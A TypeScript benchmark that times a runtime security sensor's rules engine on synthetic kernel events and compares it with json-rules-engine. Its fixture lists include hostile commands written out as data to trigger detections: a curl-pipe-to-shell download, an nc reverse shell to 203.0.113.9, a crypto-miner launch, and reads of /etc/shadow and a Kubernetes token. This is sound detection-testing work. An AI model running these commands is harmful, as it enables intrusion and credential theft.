// The rules engine on one core, no BPF: events per second through
// CompiledRuleset.evaluate() with the default ruleset on a realistic event
// mix, the same events through json-rules-engine (ReferenceEngine, the
// project's reference, as `sensor rules test` runs it), and the cost per
// event as generated rulesets grow from 10 to 1,000 rules.
//
// Events are field objects exactly as the sensor builds them: sensor events
// through toFields() then contextFields(), built before the timed loops. The
// mix is mostly opens of files no rule watches (libraries, /proc, the app's
// own files), then execs, connects, DNS, security syscalls, forks and exits,
// two thirds of them in containers of a pod, a few of them suspicious. The
// compiled engine cycles over 1,000 of them (they stay in cache, as an event
// the pipeline just built does) and, for comparison, over 20,000 (cold).
// Each figure is the median of timed rounds of about a second, after a
// warm-up. Generated rulesets (test/rules/generate.ts) use every operator,
// macros, lists and exceptions; their cost is given per event and per rule
// the event's type selects.
//
//   node dist/bench/rules.js     prints the result as JSON
import { toFields, type Fields } from '../sensor/decode/fields';
import type { EventHeader, SensorEvent, SyscallEvent } from '../sensor/decode/types';
import { contextFields } from '../sensor/enrich/context-fields';
import type { Context } from '../sensor/enrich/enricher';
import type { PodContainerInfo, PodInfo } from '../sensor/enrich/k8s/types';
import type { ProcessInfo } from '../sensor/enrich/process-types';
import type { BootClock } from '../sensor/kernel/clock';
import { CompiledRuleset } from '../sensor/rules/engine';
import { DEFAULT_RULES_DIR } from '../sensor/rules/files';
import { loadRulePaths, loadRuleTexts } from '../sensor/rules/loader';
import { ReferenceEngine } from '../sensor/rules/reference';
import type { RuleSetSpec } from '../sensor/rules/types';
import { Rng, generateRuleFiles } from '../test/rules/generate';
import { median, progress } from './util';

export interface EngineRate {
  events: number;
  /** Median of the timed rounds. */
  seconds: number;
  eventsPerSec: number;
  nsPerEvent: number;
}

export interface ScalePoint {
  rules: number;
  /** Rules whose events include the event's type: what evaluate() runs. */
  rulesPerEvent: number;
  nsPerEvent: number;
  eventsPerSec: number;
  /** Share of events that fired at least one rule. */
  firingShare: number;
  /** nsPerEvent / rulesPerEvent. */
  nsPerRule: number;
}

export interface RulesBench {
  ruleset: { source: string; rules: number; enabled: number; macros: number; lists: number; loadMs: number; compileMs: number };
  /** Share of each event kind in the mix. */
  mix: Record<string, number>;
  /** Distinct event objects cycled through: hot (fits in cache) and cold. */
  distinctEvents: { hot: number; cold: number };
  /** On the hot set; firingShare and rulesPerEvent over the whole mix. */
  compiled: EngineRate & { rounds: number; firingShare: number; rulesPerEvent: number };
  compiledCold: EngineRate;
  reference: EngineRate;
  /** compiled events/s over json-rules-engine's. */
  speedup: number;
  /** The two engines' verdicts on every event the reference ran. */
  agreed: boolean;
  scaling: ScalePoint[];
}

// ---------------------------------------------------------------------------
// The event mix

const clock = { toIso: () => '2026-11-22T20:53:28.123456789Z' } as unknown as BootClock;

const O_RDONLY = 0, O_WRONLY = 1, O_CREAT = 0o100, O_TRUNC = 0o1000, O_CLOEXEC = 0o2000000;

const UNWATCHED_READS = [
  '/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/etc/ld.so.cache', '/proc/self/stat',
  '/proc/self/status', '/proc/meminfo', '/sys/fs/cgroup/memory.max', '/app/node_modules/express/index.js',
  '/app/dist/server.js', '/usr/share/zoneinfo/UTC', '/etc/localtime', '/etc/nsswitch.conf', '/etc/hosts',
  '/etc/resolv.conf', '/etc/passwd', '/usr/lib/jvm/java-17/lib/modules', '/var/lib/app/data.db', '/dev/urandom',
  '/usr/local/lib/python3.11/site-packages/requests/api.py', '/etc/ssl/certs/ca-certificates.crt',
];
const UNWATCHED_WRITES = ['/var/lib/app/data.db-wal', '/tmp/app-cache/x.json', '/var/log/app/app.log', '/dev/null', '/app/uploads/f.bin'];
const SUSPICIOUS_OPENS: [string, number][] = [
  ['/etc/shadow', O_RDONLY], ['/etc/resolv.conf', O_WRONLY | O_TRUNC], ['/root/.ssh/authorized_keys', O_WRONLY | O_CREAT],
  ['/var/run/secrets/kubernetes.io/serviceaccount/token', O_RDONLY], ['/etc/ld.so.preload', O_WRONLY | O_CREAT],
];
const EXECS: [string, string[]][] = [
  ['/usr/local/bin/node', ['node', '/app/dist/worker.js']], ['/bin/sh', ['sh', '-c', 'date']], ['/bin/ls', ['ls', '-la']],
  ['/usr/bin/git', ['git', 'status']], ['/usr/bin/python3', ['python3', 'manage.py', 'migrate']], ['/bin/cat', ['cat', '/proc/loadavg']],
  ['/usr/sbin/nginx', ['nginx', '-s', 'reload']], ['/usr/bin/curl', ['curl', '-s', 'http://localhost:8080/healthz']],
];
const SUSPICIOUS_EXECS: [string, string[]][] = [
  ['/usr/bin/bash', ['bash', '-c', 'curl http://203.0.113.9/x.sh | sh']], ['/tmp/xmrig', ['xmrig', '--url', 'stratum+tcp://pool.example:3333']],
  ['/usr/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']],
];
const CONNECTS: [string, number][] = [
  ['10.96.0.1', 443], ['10.244.2.9', 5432], ['10.244.3.4', 6379], ['52.95.110.1', 443], ['10.96.0.10', 53], ['169.254.169.254', 80],
  ['203.0.113.9', 3333],
];
const DNS_NAMES = ['api.example.com', 'db.prod.svc.cluster.local', 'kubernetes.default.svc.cluster.local', 'pool.minexmr.com', 's3.amazonaws.com'];
const SYSCALLS: [string, Partial<SyscallEvent>][] = [
  ['socket', { args: [2n, 1n, 6n, 0n, 0n, 0n] }],
  ['dup2', { args: [3n, 1n, 0n, 0n, 0n, 0n], sourceIsSocket: false }],
  ['setuid', { args: [1000n, 0n, 0n, 0n, 0n, 0n] }],
  ['unlinkat', { strs: ['/tmp/app-cache/old.json', '', ''], paths: ['/tmp/app-cache/old.json', ''] }],
  ['renameat', { strs: ['x.tmp', 'x.json', ''], paths: ['/var/lib/app/x.tmp', '/var/lib/app/x.json'] }],
  ['fchmodat', { args: [0n, 0n, 0o755n, 0n, 0n, 0n], strs: ['/app/bin/run', '', ''], paths: ['/app/bin/run', ''] }],
  ['memfd_create', { strs: ['v8-jit', '', ''] }],
  ['unlinkat', { strs: ['/var/log/auth.log', '', ''], paths: ['/var/log/auth.log', ''] }],
];

const KINDS: [string, number][] = [
  ['open (unwatched)', 0.68], ['open (watched file)', 0.02], ['exec', 0.07], ['exec (suspicious)', 0.005], ['connect', 0.07],
  ['dns', 0.04], ['syscall', 0.06], ['fork/exit', 0.055],
];

function header(rng: Rng, comm: string): EventHeader {
  const pid = 1000 + rng.int(50_000);
  return {
    ktime: 1e18 + rng.int(1e9), startTime: 1e17, cgroupId: 5000 + rng.int(100), pid, tid: pid, ppid: pid - 1, vpid: 1 + rng.int(50),
    uid: rng.chance(0.7) ? 0 : 1000, gid: 0, auid: 4294967295, mntns: 4026532000 + rng.int(50), pidns: 4026532100, netns: 4026532200, comm,
  };
}

function proc(rng: Rng, name: string, mntns: number): ProcessInfo {
  return {
    pid: 1 + rng.int(60_000), startTime: 1, ppid: 1, precise: true, name, exepath: `/usr/bin/${name}`, exeResolved: `/usr/bin/${name}`,
    args: [name], cwd: '/', tty: 0, uid: 0, gid: 0, auid: 4294967295, cgroupId: 1, mntns, pidns: 1, parent: null, exited: false, origin: 'event',
  } as ProcessInfo;
}

function context(rng: Rng, comm: string, mntns: number): Context {
  const inPod = rng.chance(2 / 3);
  const me = proc(rng, comm, mntns);
  if (!inPod) {
    return {
      proc: me, ancestors: [proc(rng, rng.pick(['bash', 'systemd', 'sshd', 'cron']), mntns), proc(rng, 'systemd', 4026531840)],
      container: null, podContainer: undefined, pod: undefined, inContainerNs: false, exeDrift: false,
    };
  }
  const app = rng.pick(['web', 'api', 'worker', 'db']);
  const pod: PodInfo = {
    uid: `8f0e4b1c-0000-0000-0000-${String(rng.int(1e6)).padStart(12, '0')}`, namespace: rng.pick(['prod', 'staging', 'kube-system']),
    name: `${app}-${rng.int(1000)}`, nodeName: 'node-a', labels: { app, tier: 'backend' }, serviceAccount: 'default',
    hostPID: false, hostNetwork: false, hostIPC: false, owner: { kind: 'ReplicaSet', name: app },
  };
  const id = rng.int(1 << 30).toString(16).padStart(64, '0');
  const podContainer: PodContainerInfo = {
    id, runtime: 'containerd', name: app, kind: 'container', image: `registry.example.com/${app}:1.${rng.int(9)}`, imageId: 'sha256:abc',
    security: {
      privileged: false, allowPrivilegeEscalation: undefined, runAsUser: undefined, runAsNonRoot: undefined, readOnlyRootFilesystem: false,
      capabilitiesAdded: [], capabilitiesDropped: [],
    },
    pod,
  };
  return {
    proc: me, ancestors: [proc(rng, rng.pick(['node', 'nginx', 'java', 'python3']), mntns), proc(rng, 'containerd-shim', 4026531840)],
    container: { runtime: 'containerd', id, podUid: pod.uid }, podContainer, pod, inContainerNs: true, exeDrift: false,
  };
}

function pickKind(rng: Rng): string {
  let r = rng.next() * KINDS.reduce((a, [, w]) => a + w, 0);
  for (const [k, w] of KINDS) if ((r -= w) < 0) return k;
  return KINDS[0][0];
}

function sensorEvent(rng: Rng, kind: string): SensorEvent {
  const open = (path: string, flags: number): SensorEvent => ({
    ...header(rng, rng.pick(['node', 'java', 'nginx', 'python3'])), type: 'open', syscall: rng.chance(0.9) ? 'openat' : 'open',
    ret: rng.chance(0.95) ? 3 + rng.int(100) : -2, flags: flags | O_CLOEXEC, mode: flags & O_CREAT ? 0o644 : 0, dirfd: -100, path,
    resolved: true, raw: path, pathTruncated: false, rawTruncated: false, ino: rng.int(1e6), dev: 2049, iMode: 0o100644,
  });
  switch (kind) {
    case 'open (unwatched)':
      return rng.chance(0.85) ? open(rng.pick(UNWATCHED_READS), O_RDONLY) : open(rng.pick(UNWATCHED_WRITES), O_WRONLY | O_CREAT);
    case 'open (watched file)': {
      const [p, fl] = rng.pick(SUSPICIOUS_OPENS);
      return open(p, fl);
    }
    case 'exec':
    case 'exec (suspicious)': {
      const [exe, args] = rng.pick(kind === 'exec' ? EXECS : SUSPICIOUS_EXECS);
      return {
        ...header(rng, args[0].slice(0, 15)), type: 'exec', exepath: exe, exeResolved: exe, cwd: '/app', args, argc: args.length,
        argsTruncated: false, pathTruncated: false, ruid: 0, oldPid: 0, tty: 0,
      };
    }
    case 'connect': {
      const [ip, port] = rng.pick(CONNECTS);
      return {
        ...header(rng, rng.pick(['node', 'java', 'curl'])), type: 'connect', ret: rng.chance(0.8) ? 0 : -115, fd: 20, family: 2, protocol: 6,
        sockType: 1, localAddr: '10.244.1.7', localPort: 40000 + rng.int(20000), remoteAddr: ip, remotePort: port, unixPath: '', unixPathTruncated: false,
      };
    }
    case 'dns': {
      const qr = rng.pick(['query', 'response'] as const);
      return {
        ...header(rng, 'node'), type: 'dns', qr, id: rng.int(65536), name: rng.pick(DNS_NAMES), qtype: 1, rcode: qr === 'response' ? 0 : null,
        answers: qr === 'response' ? 1 : 0, latencyMs: qr === 'response' ? 0.8 : null, nameserver: '10.96.0.10', nameserverPort: 53,
        client: '10.244.1.7', clientPort: 50000, netns: 4026532200, unmatched: false,
      };
    }
    case 'syscall': {
      const [name, over] = rng.pick(SYSCALLS);
      return {
        ...header(rng, 'node'), type: 'syscall', syscall: name, ret: 0, args: [0n, 0n, 0n, 0n, 0n, 0n], strs: ['', '', ''], paths: ['', ''],
        fdPath: '', truncated: false, sourceIsSocket: false, nsKind: '', aux: 2, aux2: 0, ...over,
      };
    }
    default:
      return rng.chance(0.5)
        ? { ...header(rng, 'node'), type: 'fork', parentTid: 1 }
        : { ...header(rng, 'node'), type: 'exit', exitCode: 0, signal: 0, coreDumped: false };
  }
}

/** `n` field objects as toFields() + contextFields() make them. */
export function realisticEvents(n: number, seed = 42): { events: Fields[]; mix: Record<string, number> } {
  const rng = new Rng(seed);
  const events: Fields[] = [];
  const counts: Record<string, number> = {};
  for (let i = 0; i < n; i++) {
    const kind = pickKind(rng);
    counts[kind] = (counts[kind] ?? 0) + 1;
    const ev = sensorEvent(rng, kind);
    events.push(contextFields(context(rng, ev.comm, ev.mntns), 'node-a', toFields(ev, clock)));
  }
  const mix: Record<string, number> = {};
  for (const [k] of KINDS) mix[k] = Math.round(((counts[k] ?? 0) / n) * 1000) / 1000;
  return { events, mix };
}

// ---------------------------------------------------------------------------
// Timing

function nowNs(): number {
  return Number(process.hrtime.bigint());
}

/**
 * Evaluations per second through `rs`, cycling over `events`: a calibration
 * pass, then `rounds` rounds of about `roundS` seconds each; the median round.
 */
function timeCompiled(rs: CompiledRuleset, events: readonly Fields[], rounds: number, roundS: number): EngineRate {
  const n = events.length;
  let sink = 0;
  const run = (count: number): number => {
    const t0 = nowNs();
    for (let i = 0; i < count; i++) sink += rs.evaluate(events[i % n]).length;
    return (nowNs() - t0) / 1e9;
  };
  // Warm-up and calibration: let V8 optimise the closures for these shapes.
  let count = 1000;
  for (let s = run(count); s < 0.3; s = run(count)) count *= 2;
  const perRound = Math.max(n, Math.round((count / run(count)) * roundS));
  const times: number[] = [];
  for (let r = 0; r < rounds; r++) times.push(run(perRound));
  if (sink < 0) progress('impossible'); // keeps `sink` alive
  return rate(perRound, median(times));
}

function rate(events: number, seconds: number): EngineRate {
  return { events, seconds, eventsPerSec: events / seconds, nsPerEvent: (seconds * 1e9) / events };
}

function shapeOf(rs: CompiledRuleset, events: readonly Fields[]): { firingShare: number; rulesPerEvent: number } {
  let firing = 0;
  let candidates = 0;
  for (const f of events) {
    if (rs.evaluate(f).length) firing++;
    candidates += rs.rulesFor(f['evt.type'] as string).length;
  }
  return { firingShare: firing / events.length, rulesPerEvent: candidates / events.length };
}

function loadOrThrow(load: () => { spec: RuleSetSpec | null; problems: { message: string }[] }): RuleSetSpec {
  const r = load();
  if (!r.spec) throw new Error(`rules do not load: ${r.problems.map((p) => p.message).join('; ')}`);
  return r.spec;
}

export interface RulesBenchOptions {
  /** Timed rounds per measurement (median reported); default 5. */
  rounds?: number;
  /** Seconds per round; default 1. */
  roundS?: number;
  /** Events through json-rules-engine; default 1,500. */
  referenceEvents?: number;
  /** Generated ruleset sizes; default 10, 100, 1,000. */
  scaleSizes?: number[];
}

/** Distinct events in the hot set: about 1.5 MB of field objects, which
 *  stays in cache as an event just built by the pipeline does. */
const HOT_EVENTS = 1_000;
/** Distinct events in the cold set: 30 MB, every read a cache miss. */
const COLD_EVENTS = 20_000;

export async function benchRules(opts: RulesBenchOptions = {}): Promise<RulesBench> {
  const rounds = opts.rounds ?? 5;
  const roundS = opts.roundS ?? 1;
  const referenceEvents = opts.referenceEvents ?? 1_500;
  const { events, mix } = realisticEvents(COLD_EVENTS);
  const hot = events.slice(0, HOT_EVENTS);

  let t0 = nowNs();
  const spec = loadOrThrow(() => loadRulePaths([DEFAULT_RULES_DIR]));
  const loadMs = (nowNs() - t0) / 1e6;
  t0 = nowNs();
  const rs = new CompiledRuleset(spec);
  const compileMs = (nowNs() - t0) / 1e6;
  progress(`rules: default ruleset, ${rs.rules.length} rules; events: ${hot.length} distinct (hot), ${events.length} (cold)`);

  const compiled = { ...timeCompiled(rs, hot, rounds, roundS), rounds, ...shapeOf(rs, events) };
  progress(`rules: compiled ${Math.round(compiled.eventsPerSec).toLocaleString('en-US')} events/s (${compiled.nsPerEvent.toFixed(0)} ns/event)`);
  const compiledCold = timeCompiled(rs, events, rounds, roundS);
  progress(`rules: compiled, cold cache ${Math.round(compiledCold.eventsPerSec).toLocaleString('en-US')} events/s`);

  const reference = new ReferenceEngine(spec);
  const sample = hot.slice(0, Math.min(referenceEvents, hot.length)).concat(events.slice(hot.length, referenceEvents));
  for (const f of sample.slice(0, 200)) await reference.evaluate(f); // warm-up
  t0 = nowNs();
  const verdicts: string[][] = [];
  for (const f of sample) verdicts.push(await reference.evaluate(f));
  const ref = rate(sample.length, (nowNs() - t0) / 1e9);
  const agreed = sample.every((f, i) => rs.evaluate(f).map((r) => r.name).sort().join('\n') === verdicts[i].sort().join('\n'));
  progress(`rules: json-rules-engine ${Math.round(ref.eventsPerSec).toLocaleString('en-US')} events/s; verdicts ${agreed ? 'agree' : 'DISAGREE'}`);

  const scaling: ScalePoint[] = [];
  for (const n of opts.scaleSizes ?? [10, 100, 1000]) {
    const gen = new CompiledRuleset(loadOrThrow(() => loadRuleTexts(generateRuleFiles(1000 + n, n))));
    const r = timeCompiled(gen, hot, rounds, roundS);
    const shape = shapeOf(gen, hot);
    scaling.push({ rules: gen.rules.length, nsPerEvent: r.nsPerEvent, eventsPerSec: r.eventsPerSec, ...shape, nsPerRule: r.nsPerEvent / Math.max(shape.rulesPerEvent, 1e-9) });
    progress(`rules: ${gen.rules.length} generated rules, ${r.nsPerEvent.toFixed(0)} ns/event`);
  }

  return {
    ruleset: {
      source: DEFAULT_RULES_DIR, rules: spec.rules.length, enabled: rs.rules.length, macros: spec.macros.size, lists: spec.lists.size,
      loadMs, compileMs,
    },
    mix,
    distinctEvents: { hot: hot.length, cold: events.length },
    compiled,
    compiledCold,
    reference: ref,
    speedup: compiled.eventsPerSec / ref.eventsPerSec,
    agreed,
    scaling,
  };
}

if (require.main === module) {
  benchRules().then(
    (r) => process.stdout.write(JSON.stringify(r, null, 2) + '\n'),
    (err: Error) => {
      process.stderr.write(`${err.stack ?? err.message}\n`);
      process.exitCode = 1;
    },
  );
}
